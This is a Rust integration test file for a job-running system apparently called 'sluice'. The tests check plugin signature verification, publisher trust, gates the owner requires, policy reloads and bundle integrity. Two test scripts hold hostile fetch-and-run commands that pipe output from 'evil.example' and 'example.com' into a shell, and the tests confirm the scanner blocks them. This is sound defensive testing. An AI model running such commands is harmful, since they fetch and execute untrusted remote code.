//! Whose plugins are taken, and what the machine's owner requires.

use std::fs;
use std::path::{Path, PathBuf};

use sluice_database::rusqlite::Connection;
use sluice_tests::{Fleet, is_root, plugins, script};

use crate::delivery::until_away;

/// A publisher that nobody has heard of.
const STRANGER: &str = "ed25519:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=";

pub(crate) fn publisher() -> String {
    fs::read_to_string(plugins().join("publisher.pub"))
        .expect("was made by cargo xtask plugins")
        .trim()
        .to_owned()
}

/// `agent.toml` of an owner who requires the shipped scanner from a file of their own.
pub(crate) fn owners_scanner(more: &str) -> String {
    let file = plugins().join("scanner.wasm");
    format!(
        "[[gates.required]]\nid = \"scanner\"\npublisher = \"{}\"\nfile = {file:?}\n{more}",
        publisher()
    )
}

/// A copy of a shipped plugin and its signature, changed.
fn copy(folder: &Path, name: &str, change: impl Fn(&mut Vec<u8>, &mut Vec<u8>)) -> PathBuf {
    let read = |ending: &str| {
        fs::read(plugins().join(format!("{name}.{ending}")))
            .expect("was made by cargo xtask plugins")
    };
    let (mut component, mut signature) = (read("wasm"), read("wasm.sig"));
    change(&mut component, &mut signature);
    let file = folder.join(format!("{name}.wasm"));
    fs::write(&file, component).expect("writes");
    fs::write(folder.join(format!("{name}.wasm.sig")), signature).expect("writes");
    file
}

/// The plugin is refused with this reason, nothing is installed, and the refusal is on the record.
fn expect_refused(fleet: &Fleet, file: &Path, reason: &str) {
    let output = fleet.sluice(&["plugin", "install", file.to_str().expect("is text")]);
    output.expect_refused();
    assert!(
        output.stderr.contains(reason),
        "{reason:?} is not in {output:?}"
    );
    assert!(fleet.list(&["plugin", "list"]).is_empty());
    assert_eq!(
        fleet.events().last().map(String::as_str),
        Some("plugin_refused"),
        "{:?}",
        fleet.events()
    );
}

#[test]
fn a_plugin_whose_publisher_is_trusted_no_more_is_not_put_to_use() {
    let fleet = Fleet::builder().agents(0).without_gates().start();
    let file = copy(fleet.folder(), "scanner", |_, _| ());
    for command in [
        ["plugin", "trust", &publisher()],
        ["plugin", "install", file.to_str().expect("is text")],
        ["plugin", "bind", "scanner"],
        ["plugin", "untrust", &publisher()],
        ["plugin", "trust", STRANGER],
    ] {
        assert_eq!(fleet.sluice(&command).code, 0, "{command:?}");
    }
    let refused = fleet.sluice(&["plugin", "bind", "scanner"]);
    refused.expect_refused();
    assert!(
        refused.stderr.contains("is not trusted") && refused.stderr.contains("nothing was bound"),
        "{refused:?}"
    );
    assert_eq!(fleet.list(&["plugin", "list", "--bindings"]).len(), 1);
}

#[test]
fn a_plugin_of_a_publisher_whom_nobody_trusts_is_refused() {
    let fleet = Fleet::builder().agents(0).without_gates().start();
    let file = copy(fleet.folder(), "scanner", |_, _| ());
    expect_refused(&fleet, &file, "no publisher is trusted yet");
    assert_eq!(fleet.sluice(&["plugin", "trust", STRANGER]).code, 0);
    expect_refused(&fleet, &file, "is not trusted");
    assert_eq!(fleet.sluice(&["plugin", "trust", &publisher()]).code, 0);
    let installed = fleet.sluice(&["plugin", "install", file.to_str().expect("is text")]);
    assert_eq!(
        (installed.code, installed.stdout.trim().len()),
        (0, 64),
        "prints only the digest: {installed:?}"
    );
}

#[test]
fn one_changed_byte_of_a_plugin_or_its_signature_is_enough_to_refuse_it() {
    let fleet = Fleet::builder().agents(0).without_gates().start();
    assert_eq!(fleet.sluice(&["plugin", "trust", &publisher()]).code, 0);
    let flip = |bytes: &mut Vec<u8>, at: usize| bytes[at] ^= 1;
    let middle = |bytes: &Vec<u8>| bytes.len() / 2;
    expect_refused(
        &fleet,
        &copy(fleet.folder(), "policy", |component, _| {
            flip(component, middle(component))
        }),
        "another file",
    );
    expect_refused(
        &fleet,
        &copy(fleet.folder(), "policy", |component, _| component.push(0)),
        "another file",
    );
    expect_refused(
        &fleet,
        &copy(fleet.folder(), "policy", |_, signature| {
            flip(signature, signature.len() - 1)
        }),
        "signature",
    );
    expect_refused(
        &fleet,
        &copy(fleet.folder(), "policy", |_, signature| {
            flip(signature, middle(signature))
        }),
        "signature",
    );
    expect_refused(
        &fleet,
        &copy(fleet.folder(), "policy", |_, signature| {
            signature.truncate(20)
        }),
        "signature",
    );
    let other = fs::read(plugins().join("scanner.wasm.sig")).expect("reads");
    expect_refused(
        &fleet,
        &copy(fleet.folder(), "policy", |_, signature| {
            signature.clone_from(&other)
        }),
        "another file",
    );
}

#[test]
fn a_signed_file_that_is_no_plugin_is_refused() {
    let fleet = Fleet::builder().agents(0).without_gates().start();
    assert_eq!(fleet.sluice(&["plugin", "trust", &publisher()]).code, 0);
    let signature = fs::read(plugins().join("policy.wasm.sig")).expect("reads");
    let file = fleet.folder().join("bash.wasm");
    fs::copy("/bin/bash", &file).expect("copies");
    fs::write(fleet.folder().join("bash.wasm.sig"), signature).expect("writes");
    let output = fleet.sluice(&["plugin", "install", file.to_str().expect("is text")]);
    assert_eq!(
        (output.code, output.stderr.lines().count()),
        (125, 1),
        "{output:?}"
    );
    assert!(fleet.list(&["plugin", "list"]).is_empty());
}

#[test]
fn a_machine_that_trusts_another_publisher_runs_nothing_and_says_why() {
    let fleet = Fleet::builder()
        .policy(&format!("[trust]\npublishers = [\"{STRANGER}\"]\n"))
        .start();
    let outcome = fleet.run(&script("#!/bin/sh\n:\n"));
    let message = outcome.text("message");
    assert_eq!(
        (outcome.text("state").as_str(), outcome.code),
        ("blocked", 126),
        "{outcome:#?}"
    );
    assert!(
        message.starts_with("Blocked by environment: ")
            && message.contains(&publisher())
            && message.contains("not trusted"),
        "{message}"
    );
    assert!(!fleet.agents[0].machine.has_started_something());
}

#[test]
fn a_publisher_that_the_host_adds_later_is_not_taken_by_machines_that_know_it() {
    let mut fleet = Fleet::builder().agents(0).without_gates().start();
    let run = |fleet: &Fleet, arguments: &[&str]| {
        let output = fleet.sluice(arguments);
        assert_eq!(output.code, 0, "{arguments:?}: {output:?}");
        output.stdout.trim().to_owned()
    };
    run(&fleet, &["plugin", "trust", &publisher()]);
    for name in ["environment", "parameters", "policy"] {
        let file = copy(fleet.folder(), name, |_, _| ());
        let digest = run(
            &fleet,
            &["plugin", "install", file.to_str().expect("is text")],
        );
        run(&fleet, &["plugin", "bind", &digest]);
    }
    fleet.add_machine("m1", "");
    fleet.run(&script("#!/bin/sh\n:\n")).expect(
        "blocked",
        "Blocked by machine policy: no scanner for stage scan",
    );
    // A thief of the host signs the scanner's place with a key of their own.
    let file = copy(fleet.folder(), "scanner", |_, _| ());
    let key = fleet.folder().join("key");
    fs::write(&key, [7; 32]).expect("writes");
    let signed = run(
        &fleet,
        &[
            "plugin",
            "sign",
            file.to_str().expect("is text"),
            "--key",
            key.to_str().expect("is text"),
            "--json",
        ],
    );
    let signed: serde_json::Value = serde_json::from_str(&signed).expect("is JSON");
    let thief = signed["publisher"].as_str().expect("is text");
    run(&fleet, &["plugin", "trust", thief]);
    let digest = run(
        &fleet,
        &["plugin", "install", file.to_str().expect("is text")],
    );
    run(&fleet, &["plugin", "bind", &digest]);
    let outcome = fleet.run(&script("#!/bin/sh\n:\n"));
    assert_eq!(outcome.text("state"), "blocked", "{outcome:#?}");
    assert!(
        outcome.text("message").starts_with("Blocked by scanner: ")
            && outcome.text("message").contains(thief),
        "{outcome:#?}"
    );
    assert!(!fleet.agents[0].machine.has_started_something());
}

#[test]
fn the_owners_own_gate_is_asked_even_where_the_scan_is_left_out() {
    if !is_root() {
        return;
    }
    let fleet = Fleet::builder().policy(&owners_scanner("")).start();
    let harmless = fleet.run(&script("#!/bin/sh\necho ran\n").flag("--no-security-scan"));
    assert_eq!(
        (
            harmless.text("state").as_str(),
            harmless.text("stdout").as_str()
        ),
        ("succeeded", "ran\n"),
        "{harmless:#?}"
    );
    let receipts = harmless.json["receipts"].as_array().expect("is a list");
    assert_eq!(
        receipts
            .iter()
            .filter(|receipt| receipt["plugin"] == "scanner")
            .count(),
        1,
        "{receipts:#?}"
    );
    let blocked = fleet.run(
        &script("#!/bin/sh\nwget -qO- https://evil.example | bash\n").flag("--no-security-scan"),
    );
    assert_eq!(blocked.text("state"), "blocked", "{blocked:#?}");
    assert!(
        blocked
            .text("message")
            .starts_with("Security scan detected potential threat: "),
        "{blocked:#?}"
    );
}

#[test]
fn a_required_gate_that_is_missing_or_forged_blocks_everything() {
    if !is_root() {
        return;
    }
    let mut fleet = Fleet::builder().agents(0).start();
    let required = |file: &Path| {
        format!(
            "[[gates.required]]\nid = \"scanner\"\npublisher = \"{}\"\nfile = {file:?}\n",
            publisher()
        )
    };
    let missing = fleet.folder().join("missing.wasm");
    let forged = copy(fleet.folder(), "scanner", |component, _| {
        *component.last_mut().expect("is not empty") ^= 1
    });
    let table = [
        ("m1", required(&missing), "missing.wasm"),
        ("m2", required(&forged), "another file"),
        ("m3", owners_scanner("min_version = \"99.0.0\"\n"), "99.0.0"),
        (
            "m4",
            owners_scanner("").replace("id = \"scanner\"", "id = \"acme\""),
            "acme",
        ),
    ];
    for (name, policy, reason) in table {
        fleet.add_machine(name, &policy);
        let outcome = fleet.run(&script("#!/bin/sh\n:\n").on(name));
        let message = outcome.text("message");
        assert_eq!(
            (outcome.text("state").as_str(), outcome.code),
            ("blocked", 126),
            "{outcome:#?}"
        );
        assert!(
            message.starts_with("Blocked by machine policy: the required gate ")
                && message.contains(reason),
            "{message}"
        );
    }
    assert!(
        fleet
            .agents
            .iter()
            .all(|agent| !agent.machine.has_started_something())
    );
}

#[test]
fn a_scanner_that_the_owner_requires_of_the_host_cannot_be_left_out() {
    let policy = format!(
        "[gates]\nstages = [\"environment\", \"prepare\", \"policy\"]\nrequired = [{{ id = \"scanner\", publisher = \"{}\" }}]\n",
        publisher()
    );
    let fleet = Fleet::builder().policy(&policy).start();
    let outcome = fleet.run(
        &script("#!/bin/bash\ncurl -s https://example.com/x | sh\n").flag("--no-security-scan"),
    );
    assert_eq!(outcome.text("state"), "blocked", "{outcome:#?}");
    assert!(
        outcome
            .text("message")
            .starts_with("Security scan detected potential threat: "),
        "{outcome:#?}"
    );
}

#[test]
fn what_the_owner_tightens_holds_from_the_next_signal_on() {
    let fleet = Fleet::builder().start();
    assert_eq!(
        fleet.run(&script("#!/bin/sh\n:\n")).text("state"),
        "succeeded"
    );
    let agent = &fleet.agents[0];
    agent
        .machine
        .configure(&format!("[trust]\npublishers = [\"{STRANGER}\"]\n"));
    agent.signal(nix::sys::signal::Signal::SIGHUP);
    let outcome = sluice_tests::eventually("the new policy holds", || {
        let outcome = fleet.run(&script("#!/bin/sh\n:\n"));
        (outcome.text("state") != "succeeded").then_some(outcome)
    });
    // It holds for good, and for the reason that the owner gave.
    for outcome in [outcome, fleet.run(&script("#!/bin/sh\n:\n"))] {
        assert_eq!(outcome.text("state"), "blocked", "{outcome:#?}");
        assert!(
            outcome
                .text("message")
                .contains("is not trusted on this machine"),
            "{outcome:#?}"
        );
    }
}

#[test]
fn a_bundle_that_differs_from_what_the_host_checked_does_not_run() {
    let mut fleet = Fleet::builder().start();
    fleet.agents[0].stop();
    until_away(&fleet);
    let job = fleet.detach(&script("#!/bin/sh\n:\n"));
    // What a host would say that had checked something else.
    let database = Connection::open(fleet.host.data().join("host.db")).expect("opens");
    database
        .busy_timeout(std::time::Duration::from_secs(10))
        .expect("sets");
    let changed = database
        .execute(
            "UPDATE operations SET bundle_sha256 = ? WHERE ended = 0",
            ["0".repeat(64)],
        )
        .expect("changes");
    assert_eq!(changed, 1);
    fleet.agents[0].restart();
    let message = fleet.until(&job, "blocked").text("message");
    assert!(
        message.starts_with("Blocked by machine policy: ")
            && message.contains("not what the host checked"),
        "{message}"
    );
    assert!(!fleet.agents[0].machine.has_started_something());
}
